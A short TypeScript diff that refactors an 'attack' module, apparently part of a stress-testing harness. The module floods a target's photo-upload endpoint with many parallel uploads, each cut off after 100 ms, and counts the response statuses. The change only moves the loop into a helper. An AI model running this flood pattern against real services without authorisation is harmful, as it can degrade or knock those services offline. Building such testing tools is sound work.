@@ -16,18 +16,14 @@ export const attack: SurfaceAttack = {
   async run(target, isOver) {
     const path = await pathOfPhotos(target);
     const client = new AttackClient(target);
-    const sendAndClose = async () => {
-      while (!isOver()) {
-        const upload = beginUpload(target, path, BYTES);
-        // Node calls it when the kernel has taken the picture.
-        upload.end(PICTURE, async () => {
-          await pause(100);
-          upload.destroy();
-        });
-        client.count(await statusOf(upload));
-      }
-    };
-    await Promise.all(Array.from({ length: CONNECTIONS }, sendAndClose));
-    return client.counts;
+    return client.repeatWith(CONNECTIONS, isOver, async () => {
+      const upload = beginUpload(target, path, BYTES);
+      // Node calls it when the kernel has taken the picture.
+      upload.end(PICTURE, async () => {
+        await pause(100);
+        upload.destroy();
+      });
+      client.count(await statusOf(upload));
+    });
   },
 };
